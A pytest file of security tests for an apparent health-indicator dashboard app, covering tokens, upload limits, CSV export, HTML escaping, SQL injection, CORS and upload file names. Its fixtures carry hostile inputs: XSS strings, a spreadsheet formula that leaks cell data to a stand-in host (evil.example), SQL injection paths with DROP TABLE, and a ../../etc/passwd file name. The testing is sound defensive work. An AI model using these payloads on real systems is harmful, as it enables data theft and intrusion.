"""Security checks as tests: tokens, uploads, exports, HTML escaping, SQL, CORS, headers.

Hostile content arrives the way it would in production: through the loading pipeline, as an
organisation named ``<script>alert(1)</script>`` or ``=HYPERLINK(...)`` in an uploaded file.
"""

from __future__ import annotations

import ast
import csv
import hmac
import io
import logging
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text

from api.app import create_api
from core import auth
from core.db import session_scope
from core.settings import Settings, get_settings, override_settings
from etl.pipeline import run_load
from tests.conftest import REPO
from tests.production.faults import DEMO, load_demo_base

XSS_NAME = "<script>alert(1)</script>"
IMG_NAME = '<img src=x onerror="alert(2)">'
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")'

HOSTILE_ORGS = (
    "org_code,name,org_type,parent_code\n"
    f"XSS01,{XSS_NAME},practice,U49536\n"
    f'XSS02,"{IMG_NAME.replace(chr(34), chr(34) * 2)}",practice,U49536\n'
    f'XSS03,"{FORMULA_NAME.replace(chr(34), chr(34) * 2)}",practice,U49536\n'
    "XSS04,+SUM(1;2),practice,U49536\n"
    "XSS05,@cmd,practice,U49536\n"
)


@pytest.fixture
def hostile(engine: Engine) -> Engine:
    """The demo base plus organisations with hostile names, and values for them."""
    load_demo_base(engine)
    orgs = run_load(engine, HOSTILE_ORGS.encode(), kind="organisations", file_name="orgs.csv")
    assert orgs.status == "loaded", orgs.as_json()
    lines = (DEMO / "values_immunisations.csv").read_text().splitlines()
    practice_rows = [ln for ln in lines[1:] if ln.startswith("H82006,")]
    values = [lines[0], *(ln.replace("H82006,", "XSS01,", 1) for ln in practice_rows),
              *(ln.replace("H82006,", "XSS02,", 1) for ln in practice_rows), *lines[1:400]]
    r = run_load(engine, "\n".join(values).encode(), kind="values", file_name="v.csv")
    assert r.status == "loaded", r.as_json()
    return engine


def _token(engine: Engine, name: str, role: str) -> str:
    with session_scope(engine) as s:
        _info, token = auth.create_token(s, name, role)
    return token


# tokens -------------------------------------------------------------------------------------
def test_tokens_hashed_at_rest(engine: Engine) -> None:
    """No column of api_tokens holds the token; the stored hash is its SHA-256."""
    token = _token(engine, "ci-bot", "analyst")
    with engine.connect() as c:
        rows = c.execute(text("SELECT * FROM api_tokens")).all()
    dump = repr(rows)
    assert token not in dump
    assert token[3:] not in dump  # nor the random part without the prefix
    assert auth.hash_token(token) in dump


def test_token_compare_is_constant_time(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    """verify_token compares hashes with hmac.compare_digest (spied on, not grepped)."""
    token = _token(engine, "ci-bot", "analyst")
    calls = []
    real = hmac.compare_digest

    def spy(a, b):  # type: ignore[no-untyped-def]
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(auth.hmac, "compare_digest", spy)
    with engine.connect() as c:
        assert auth.verify_token(c, token) is not None
        assert auth.verify_token(c, token + "x") is None
    assert calls
    assert calls[0][0] == calls[0][1] == auth.hash_token(token)


def test_revoked_token_rejected(engine: Engine) -> None:
    """A revoked analyst token can no longer write (401), and its reads are refused too."""
    token = _token(engine, "leaver", "analyst")
    client = TestClient(create_api(), raise_server_exceptions=False)
    headers = {"Authorization": f"Bearer {token}"}
    ok = client.post("/api/v1/loads", headers=headers, data={"kind": "values"},
                     files={"file": ("v.csv", b"org_code,indicator_id,period,value\n")})
    assert ok.status_code == 422  # authenticated; the (empty) file is what is wrong
    with session_scope(engine) as s:
        auth.revoke_token(s, "leaver")
    r = client.post("/api/v1/loads", headers=headers, data={"kind": "values"},
                    files={"file": ("v.csv", b"org_code,indicator_id,period,value\n")})
    assert r.status_code == 401
    assert r.json()["error"]["code"] == "not_authenticated"
    assert client.get("/api/v1/indicators", headers=headers).status_code == 401


def test_tokens_never_logged(engine: Engine, caplog: pytest.LogCaptureFixture) -> None:
    """An authenticated upload through the whole middleware stack, with every logger at
    DEBUG (SQLAlchemy's statement log included): the token appears in no log record."""
    from qidash.middleware import JsonFormatter, RequestContextMiddleware

    token = _token(engine, "ci-bot", "analyst")
    app = RequestContextMiddleware(create_api())
    client = TestClient(app, raise_server_exceptions=False)
    logging.getLogger("sqlalchemy.engine").setLevel(logging.INFO)
    try:
        with caplog.at_level(logging.DEBUG):
            r = client.post("/api/v1/loads", headers={"Authorization": f"Bearer {token}"},
                            data={"kind": "organisations"},
                            files={"file": ("o.csv", HOSTILE_ORGS.encode())})
            client.get("/api/v1/indicators", headers={"Authorization": f"Bearer {token}"})
            client.get("/api/v1/indicators", headers={"Authorization": f"Bearer {token}x"})
    finally:
        logging.getLogger("sqlalchemy.engine").setLevel(logging.WARNING)
    assert r.status_code in (200, 422)
    assert len(caplog.records) > 5  # the capture really saw the request's logs
    formatter = JsonFormatter()
    for record in caplog.records:
        line = formatter.format(record)
        assert token not in line, f"token logged by {record.name}"
        assert token[3:] not in line


# uploads ------------------------------------------------------------------------------------
def test_upload_limit_413(engine: Engine) -> None:
    """Above QIDASH_MAX_UPLOAD_MB: 413 in the error shape, with or without Content-Length."""
    override_settings(Settings(database_url=get_settings().database_url, max_upload_mb=1))
    token = _token(engine, "ci-bot", "analyst")
    client = TestClient(create_api(), raise_server_exceptions=False)
    headers = {"Authorization": f"Bearer {token}"}
    big = b"org_code,indicator_id,period,value\n" + b"A81001,x,2020-01,1\n" * 80_000
    r = client.post("/api/v1/loads", headers=headers, data={"kind": "values"},
                    files={"file": ("v.csv", big)})
    assert r.status_code == 413
    assert r.json()["error"]["code"] == "payload_too_large"

    def chunked():  # no Content-Length: the limit must hold while streaming
        yield b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"v.csv\"\r\n\r\n"
        for _ in range(20):
            yield b"x" * 100_000
        yield b"\r\n--b--\r\n"

    r = client.post("/api/v1/loads", content=chunked(),
                    headers={**headers, "Content-Type": "multipart/form-data; boundary=b"})
    assert r.status_code == 413


# exports and HTML -----------------------------------------------------------------------------
def test_csv_export_neutralises_formulas(hostile: Engine) -> None:
    """Organisation names that a spreadsheet would run come back with a leading apostrophe."""
    client = TestClient(create_api(), raise_server_exceptions=False)
    r = client.get("/api/v1/organisations", params={"q": "XSS", "format": "csv"})
    assert r.status_code == 200
    names = {row["code"]: row["name"] for row in csv.DictReader(io.StringIO(r.text))}
    assert names["XSS03"] == "'" + FORMULA_NAME
    assert names["XSS04"] == "'+SUM(1;2)"
    assert names["XSS05"] == "'@cmd"
    assert names["XSS01"] == XSS_NAME  # not a formula: unchanged
    # the JSON API returns data, not markup: the name exactly as loaded
    j = client.get("/api/v1/organisations/XSS01").json()
    assert j["name"] == XSS_NAME


def test_dash_layout_renders_names_as_text(hostile: Engine) -> None:
    """The organisation page's layout holds the hostile name only as plain text children
    (React escapes those); no component that renders raw HTML carries it."""
    import dash

    from dashboards.app import create_dash

    create_dash(requests_pathname_prefix="/")
    page = next(p for p in dash.page_registry.values()
                if p.get("path_template") == "/organisations/<code>")
    tree = page["layout"](code="XSS01")
    found_text = []

    def walk(node) -> None:  # type: ignore[no-untyped-def]
        if isinstance(node, str):
            if XSS_NAME in node:
                found_text.append(node)
            return
        if isinstance(node, list | tuple):
            for n in node:
                walk(n)
            return
        if not hasattr(node, "to_plotly_json"):
            return
        props = node.to_plotly_json().get("props", {})
        raw_html = props.get("dangerously_allow_html") or type(node).__name__ in (
            "Iframe",) and "srcDoc" in props
        if raw_html:
            assert XSS_NAME not in repr(props), f"{type(node).__name__} renders raw HTML"
        for key, value in props.items():
            if key == "children" or isinstance(value, list | tuple) or hasattr(
                    value, "to_plotly_json"):
                walk(value)
            elif isinstance(value, str) and XSS_NAME in value and key not in (
                    "children", "title", "value", "label", "placeholder"):
                # e.g. an href or a style built from the name would be a bug
                raise AssertionError(f"name in {type(node).__name__}.{key}: {value!r}")

    walk(tree)
    assert found_text, "the organisation's name is not on its page"


@pytest.mark.browser
def test_hostile_names_render_as_text_in_the_browser(hostile: Engine, database_url: str,
                                                     backend: str) -> None:
    """In headless Chromium: the profile and comparison pages show the names literally and
    no script runs (no dialog opens). Escaping does not depend on the database: SQLite only."""
    if backend != "sqlite":
        pytest.skip("rendering is the same on both databases; run once")
    from tests.browser.conftest import CHROMIUM, CHROMIUM_ARGS, start_server
    from tests.conftest import skip_unless_ci

    if not Path(CHROMIUM).exists():
        skip_unless_ci(f"no chromium at {CHROMIUM}")
    from playwright.sync_api import sync_playwright

    proc, base = start_server(database_url)
    dialogs: list[str] = []
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True,
                                        args=CHROMIUM_ARGS)
            page = browser.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(f"{base}/organisations/XSS01")
            page.wait_for_function("() => document.body.innerText.includes('<script>alert(1)')",
                                   timeout=20_000)
            page.goto(f"{base}/organisations/XSS02")
            page.wait_for_function("() => document.body.innerText.includes('onerror')",
                                   timeout=20_000)
            page.goto(f"{base}/indicators/imm_mmr1_24m")
            page.wait_for_selector(".js-plotly-plot .main-svg", timeout=20_000)
            page.wait_for_timeout(500)
            assert page.evaluate("document.querySelectorAll('img[src=x]').length") == 0
            browser.close()
    finally:
        proc.terminate()
        proc.wait(10)
    assert dialogs == []


# SQL ----------------------------------------------------------------------------------------
_SQL_WORDS = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|ALTER|COPY|WHERE|FROM)\b")
#: every expression interpolated into SQL text in core/, etl/ and api/, reviewed: column lists
#: and clauses built from module constants (STAGE_COLUMNS, VALUE_FIELDS), and in
#: etl/load_values.py's bulk path the table names of a constant tuple and foreign-key names and
#: definitions read from PostgreSQL's own catalogue (pg_constraint); ValueStage's writes name
#: ``table`` (qidash_stage or indicator_values) and ``columns``/``names``, subsets of the
#: constant STAGE_COLUMNS or DIRECT_COLUMNS. No request or file value is interpolated.
ALLOWED_SQL_INTERPOLATIONS = {
    "on_commit", "', '.join(STAGE_COLUMNS)", "', '.join('?' * len(STAGE_COLUMNS))", "eq",
    "same", "prev", "table", "name", "definition", "', '.join(names)",
    "', '.join('?' * len(names))", "', '.join(columns)",
}


def _sql_fstrings(path: Path) -> list[tuple[int, str]]:
    tree = ast.parse(path.read_text())
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.JoinedStr):
            continue
        literal = "".join(v.value for v in node.values if isinstance(v, ast.Constant)
                          and isinstance(v.value, str))
        if not _SQL_WORDS.search(literal):
            continue
        for v in node.values:
            if isinstance(v, ast.FormattedValue):
                found.append((node.lineno, ast.unparse(v.value)))
    return found


def test_sql_is_parameterised() -> None:
    """f-strings that build SQL in core/, etl/ and api/ interpolate only code constants;
    values always travel as bound parameters. A new interpolation fails this test until it
    is reviewed and added to the allowlist above."""
    unexpected = []
    for folder in ("core", "etl", "api"):
        for path in (REPO / folder).rglob("*.py"):
            for line, expr in _sql_fstrings(path):
                if expr not in ALLOWED_SQL_INTERPOLATIONS:
                    unexpected.append(f"{path.relative_to(REPO)}:{line}: {{{expr}}}")
    assert not unexpected, "SQL built from unreviewed expressions:\n" + "\n".join(unexpected)


def test_injection_through_codes_and_queries(hostile: Engine) -> None:
    """SQL in a path, a query string and a search: 404/200, and every table intact."""
    client = TestClient(create_api(), raise_server_exceptions=False)
    with hostile.connect() as c:
        before = c.execute(text("SELECT COUNT(*) FROM indicator_values")).scalar_one()
    for path in ("/api/v1/organisations/X'; DROP TABLE indicator_values; --",
                 "/api/v1/indicators/imm' OR '1'='1/comparison",
                 "/api/v1/organisations?q=%27%20OR%201%3D1%20--",
                 "/api/v1/organisations?q=%25"):
        r = client.get(path)
        assert r.status_code in (200, 404, 422), (path, r.status_code)
    with hostile.connect() as c:
        assert c.execute(text("SELECT COUNT(*) FROM indicator_values")).scalar_one() == before


# CORS and headers -----------------------------------------------------------------------------
def test_cors_closed_by_default_and_security_headers(engine: Engine) -> None:
    """No CORS headers unless QIDASH_CORS_ORIGINS lists origins; security headers on API and
    dashboard responses alike."""
    from qidash.app import create_app

    client = TestClient(create_app(), raise_server_exceptions=False)
    pre = client.options("/api/v1/indicators", headers={
        "Origin": "https://evil.example", "Access-Control-Request-Method": "GET"})
    assert "access-control-allow-origin" not in pre.headers
    for path in ("/api/v1/health", "/api/v1/indicators", "/"):
        r = client.get(path, headers={"Origin": "https://evil.example"})
        assert r.status_code == 200, path
        assert "access-control-allow-origin" not in r.headers
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
        assert r.headers["x-request-id"]

    override_settings(Settings(database_url=get_settings().database_url,
                               cors_origins=["https://ok.example"]))
    client = TestClient(create_app(), raise_server_exceptions=False)
    ok = client.get("/api/v1/health", headers={"Origin": "https://ok.example"})
    assert ok.headers.get("access-control-allow-origin") == "https://ok.example"
    bad = client.get("/api/v1/health", headers={"Origin": "https://evil.example"})
    assert "access-control-allow-origin" not in bad.headers


def test_upload_name_is_never_a_path(engine: Engine) -> None:
    """A client file name with folders is recorded as its safe base name, with the extension
    the content decided (a workbook sent as .csv is recorded and read as .xlsx)."""
    import openpyxl

    load_demo_base(engine)
    token = _token(engine, "ci-bot", "analyst")
    client = TestClient(create_api(), raise_server_exceptions=False)
    headers = {"Authorization": f"Bearer {token}"}
    lines = (DEMO / "values_immunisations.csv").read_text().splitlines()[:6]
    r = client.post("/api/v1/loads", headers=headers, data={"kind": "values"},
                    files={"file": ("../../etc/passwd.csv", "\n".join(lines).encode())})
    assert r.status_code == 200, r.text
    wb = openpyxl.Workbook()
    for line in lines:
        wb.active.append(line.split(","))
    buf = io.BytesIO()
    wb.save(buf)
    r = client.post("/api/v1/loads", headers=headers, data={"kind": "values"},
                    files={"file": ("C:\\Users\\me\\values.csv", buf.getvalue())})
    assert r.status_code == 200, r.text
    with engine.connect() as c:
        names = c.execute(text("SELECT file_name FROM loads WHERE kind = 'values' ORDER BY id")
                          ).scalars().all()
    assert names == ["passwd.csv", "values.xlsx"]
